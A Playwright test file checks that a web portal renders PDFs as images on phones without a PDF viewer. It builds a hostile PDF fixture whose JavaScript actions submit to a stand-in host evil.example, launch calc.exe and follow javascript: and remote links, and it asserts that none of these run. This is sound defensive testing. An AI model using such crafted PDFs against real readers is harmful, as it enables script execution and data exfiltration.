import { jsPDF } from 'jspdf';
import { expect, type Page, test } from '../fixtures/test.ts';
import { dialog, openList } from '../pages/lists.ts';

test.use({
  account: 'rosa',
  viewport: { width: 360, height: 740 },
  hasTouch: true,
  isMobile: true,
  hasPdfViewer: false,
});

function makePdf(pages: number): Buffer {
  const doc = new jsPDF();
  for (let number = 1; number <= pages; number += 1) {
    if (number > 1) doc.addPage();
    doc.setFontSize(40).text(`Receipt ${number}`, 20, 40);
    doc.setFillColor(0, 0, 0).rect(20, 60, 100, 100, 'F');
  }
  return Buffer.from(doc.output('arraybuffer'));
}

const FILES = '**/files/**';
const serveFile = (page: Page, body: Buffer) =>
  page.route(FILES, (route) => route.fulfill({ body, contentType: 'application/pdf' }));
const chooseFile = (page: Page) =>
  page
    .getByRole('button', { name: /^Open first-aid.*\.pdf$/ })
    .first()
    .click();

async function openFile(page: Page, body: Buffer): Promise<void> {
  await serveFile(page, body);
  await openList(page, 'employees');
  await chooseFile(page);
}

test('FILE-02 FILE-11 in a browser without a PDF viewer the portal renders the pages, or says that it cannot', async ({
  page,
}) => {
  await openFile(page, makePdf(2));
  const pages = dialog(page).getByRole('region', { name: /^Content of first-aid/ });
  await expect(pages.getByRole('img')).toHaveCount(2);
  await expect(pages.getByRole('img', { name: 'Page 2 of 2' })).toBeAttached();
  await expect(pages).toContainText('Receipt 1');
  await expect(dialog(page).locator('iframe')).toHaveCount(0);
  await expect(dialog(page).getByRole('button', { name: 'Download', exact: true })).toBeEnabled();
  const inks = await pages
    .getByRole('img')
    .first()
    .evaluate(async (element) => {
      const picture = element as HTMLImageElement;
      await picture.decode();
      const canvas = document.createElement('canvas');
      canvas.width = picture.naturalWidth;
      canvas.height = picture.naturalHeight;
      const context = canvas.getContext('2d');
      context?.drawImage(picture, 0, 0);
      const { data } = context?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] };
      const at = (share: number) => Math.floor(canvas.height * share) * canvas.width * 4 + canvas.width;
      return [data[at(0.3)], data[at(0.9)]];
    });
  // Inside the black square, and on the empty paper below it.
  expect(inks).toEqual([0, 255]);
  await dialog(page).getByRole('button', { name: 'Close' }).click();

  await test.step('FILE-04 a PDF that cannot be rendered says so instead of an empty frame', async () => {
    await page.unroute(FILES);
    await serveFile(page, Buffer.from('%PDF-1.4 nothing of a PDF follows'));
    await chooseFile(page);
    await expect(dialog(page).getByRole('alert')).toHaveText(
      'The portal cannot show this PDF. Download it to open it on your device.',
    );
    await expect(dialog(page).getByRole('button', { name: 'Download', exact: true })).toBeEnabled();
  });
});

/** A page that would run a script, submit a form, open a program and follow a link, if any of it ran. */
function makeHostilePdf(): Buffer {
  const script = (act: string) =>
    `<</S/JavaScript/JS(globalThis.harmed=true;app.alert\\(1\\);${act}this.submitForm\\("http://evil.example/"\\);)>>`;
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction${script('')}/AA<</WC${script('')}/DC${script('')}>>/Names<</JavaScript<</Names[(a)${script('')}]>>>>/AcroForm<</Fields[5 0 R]/CO[5 0 R]>>>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<</Shading<</S 9 0 R>>>>/AA<</O${script('')}>>/Annots[5 0 R 6 0 R 7 0 R 8 0 R]>>`,
    '<</Length 31>>stream\n/S sh 0 0 0 rg 0 0 300 150 re f\nendstream',
    `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(1)/Rect[10 160 100 180]/AA<</K${script('')}/C${script('')}/F${script('')}>>>>`,
    '<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<</S/URI/URI(javascript:globalThis.harmed=true)>>>>',
    '<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<</S/Launch/F(calc.exe)>>>>',
    '<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<</S/GoToR/F(http://evil.example/a.pdf)/D[0/Fit]>>>>',
    // A colour computed by a PDF function, which a renderer may compile to code.
    '<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 300 300]/Domain[0 1]/Function 10 0 R>>',
    '<</FunctionType 4/Domain[0 1]/Range[0 1]/Length 20>>stream\n{ 0.5 mul 0.25 add }\nendstream',
  ];
  const body = objects.map((object, index) => `${index + 1} 0 obj${object}\nendobj\n`).join('');
  return Buffer.from(`%PDF-1.7\n${body}trailer<</Root 1 0 R/Size ${objects.length + 1}>>\n%%EOF`, 'latin1');
}

/** Path that the worker requests when it creates code from text. */
const CODE_MADE = '/code-made-from-text';

/** Makes the PDF worker report when it creates code from text. */
const watchCode = (page: Page): Promise<unknown> =>
  page.route(/\/draw-pdf-worker-[^/]*\.js$/, async (route) => {
    const response = await route.fetch();
    const tell = `(made, _, parts) => { fetch('${CODE_MADE}'); return made(...parts); }`;
    // With and without `new`, which minifiers drop.
    const watch = `self.Function = new Proxy(Function, { apply: ${tell}, construct: (made, parts) => (${tell})(made, null, parts) });`;
    await route.fulfill({ response, body: `${watch}\n${await response.text()}` });
  });

test('FILE-02 FILE-04 a PDF with scripts and links is only an image: no script runs, no request is sent @long', async ({
  page,
  origin,
}) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  page.on('dialog', () => expect(false, 'the file opened a dialog').toBe(true));
  await watchCode(page);
  await openFile(page, makeHostilePdf());
  const pages = dialog(page).getByRole('region', { name: /^Content of first-aid/ });
  await expect(pages.getByRole('img', { name: 'Page 1 of 1' })).toBeVisible();
  // The preview contains only images and text: no field, link or frame of the file.
  await expect
    .poll(() => pages.evaluate((region) => [...region.querySelectorAll('*')].map((one) => one.tagName)))
    .toEqual(['IMG', 'SPAN']);
  expect(asked.filter((address) => !address.startsWith(origin) && !address.startsWith('blob:'))).toEqual([]);
  expect(asked.some((address) => /draw-pdf-worker-/.test(address))).toBe(true);
  expect(asked.filter((address) => address.endsWith(CODE_MADE))).toEqual([]);
  expect(asked.filter((address) => /sandbox|quickjs|\.wasm/i.test(address))).toEqual([]);
  await expect.poll(() => page.evaluate(() => 'harmed' in globalThis)).toBe(false);
  expect(page.context().pages()).toHaveLength(1);
});

test.describe('with a viewer', () => {
  test.use({ hasPdfViewer: true });

  test('FILE-02 a browser with a PDF viewer uses it, and loads no renderer @long', async ({ page }) => {
    const scripts: string[] = [];
    page.on('request', (request) => scripts.push(request.url()));
    await openFile(page, makePdf(1));
    await expect(dialog(page).locator('iframe')).toBeVisible();
    expect(scripts.filter((address) => /PdfPages|draw-pdf/.test(address))).toEqual([]);
  });
});
